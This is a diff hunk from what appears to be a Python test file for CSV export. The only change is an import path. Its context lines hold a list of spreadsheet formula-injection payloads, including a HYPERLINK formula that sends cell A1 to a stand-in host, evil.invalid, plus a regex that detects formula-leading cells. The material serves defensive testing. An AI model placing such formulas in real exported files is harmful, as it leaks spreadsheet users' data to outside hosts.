@@ -11,7 +11,7 @@ from hypothesis import strategies as st
 from sna.cli import run
 from sna.dataset import write_csv
 from sna.errors import csv_cell, csv_text
-from sna.load.files.delimited import delimited
+from sna.load.files.cells import delimited
 
 LIVE = ['=HYPERLINK("http://evil.invalid/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", " =1+1", "＝1+1", "'=1"]
 FORMULA = re.compile(r"[\t\r\n ]*[=+\-@＝＋－＠]|[\t\r\n]")
